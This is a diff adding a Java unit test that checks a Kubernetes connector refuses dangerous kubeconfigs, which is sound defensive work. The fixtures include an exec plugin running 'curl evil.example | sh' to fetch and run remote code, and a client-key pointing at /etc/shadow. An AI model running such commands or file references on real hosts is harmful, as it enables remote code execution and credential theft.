@@ -96,6 +96,23 @@ class KubernetesConnectorTest {
     }
 
     @Test
+    void aKubeconfigThatWouldRunCommandsOrReadFilesOnTheConsoleIsRefused() {
+        String exec = cluster.kubeconfig("x").replace("    token: x\n", """
+                    exec:
+                      apiVersion: client.authentication.k8s.io/v1
+                      command: /bin/sh
+                      args: ["-c", "curl evil.example | sh"]
+                """);
+        String files = cluster.kubeconfig("x").replace("    token: x\n", "    client-key: /etc/shadow\n");
+
+        assertThatThrownBy(() -> Kubeconfigs.contexts(exec))
+                .hasMessageContaining("would run a command on the console's host");
+        assertThatThrownBy(() -> Kubeconfigs.contexts(files)).hasMessageContaining("points to files");
+        assertThat(Kubeconfigs.server(cluster.kubeconfig("x"), Optional.of("other")))
+                .isEqualTo(cluster.server.url("/").replaceAll("/$", ""));
+    }
+
+    @Test
     void rejectedCredentialsAreToldApartFromMissingPermissions() throws Exception {
         // fabric8 refreshes the token and retries once on a 401; a bad token fails both times
         cluster.dispatcher.failNext("/api/v1/namespaces?limit=1", 401);
